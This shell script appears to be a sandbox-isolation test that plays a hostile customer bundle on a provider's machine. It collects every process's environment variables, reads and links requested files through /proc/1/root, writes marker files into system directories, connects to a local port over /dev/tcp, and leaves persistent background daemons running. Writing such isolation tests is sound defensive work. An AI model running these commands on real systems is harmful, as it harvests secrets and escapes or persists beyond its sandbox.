# What a hostile customer's bundle would like to do on a provider's machine. What it gets goes into the delivery,
# and so to the customer. files/wanted lists paths, files/port has the port of a listener on this machine, and
# files/mark a word that is nowhere else.
loot=$GUILD_DELIVERY/report
mkdir "$loot"
mark=$(cat files/mark)
port=$(cat files/port)
exec 2>"$loot/refusals"

# What is in the environment, here and in every process that can be seen?
env >"$loot/environment"
for process in /proc/[0-9]*; do
	tr '\0' '\n' <"$process/environ"
	tr '\0' ' ' <"$process/cmdline"
done >"$loot/processes"
cat /proc/self/mountinfo /proc/net/tcp >"$loot/machine"

# What is in the homes, and in what somebody took care to hide?
ls -laR ~ /root /home /tmp /var/tmp /run /dev/shm >"$loot/homes"
find "$GUILD_BUNDLE" >"$loot/bundle"
n=0
while read -r path; do
	n=$((n + 1))
	cat "$path"
	ls -la "$path"
	cat "/proc/1/root$path"
	ln -s "$path" "$loot/link$n"
	ln "$path" "$loot/hard$n"
	echo "$mark" >>"$path"
	touch "$path.$mark"
done <files/wanted >"$loot/wanted"
ln -s /proc/1/environ "$GUILD_DELIVERY/environ"
mkfifo "$GUILD_DELIVERY/pipe"

# What can be written where others will look?
for dir in / /bin /etc /usr /usr/bin /usr/local/bin /lib /opt /root /home /srv /sys /proc /dev /var /run \
	/tmp /var/tmp /dev/shm /box "$GUILD_BUNDLE/.." "$GUILD_DELIVERY/.."; do
	touch "$dir/$mark"
done

# Who can be told?
bash -c "exec 3<>/dev/tcp/127.0.0.1/$port; echo $mark >&3"
bash -c "exec 3<>/dev/tcp/localhost/$port; echo $mark >&3"

# Who stays behind? A daemon that keeps trying, and many that only sleep.
setsid sh -c 'while :; do bash -c "exec 3<>/dev/tcp/127.0.0.1/$1"; sleep 0.1; done' "$mark" "$port" </dev/null >/dev/null 2>&1 &
n=0
while [ $n -lt 100 ]; do
	setsid sh -c 'sleep 600' "$mark" </dev/null >/dev/null 2>&1 &
	n=$((n + 1))
done
ls -d /proc/[0-9]* | wc -l >"$loot/crowd"
echo end >"$loot/end"
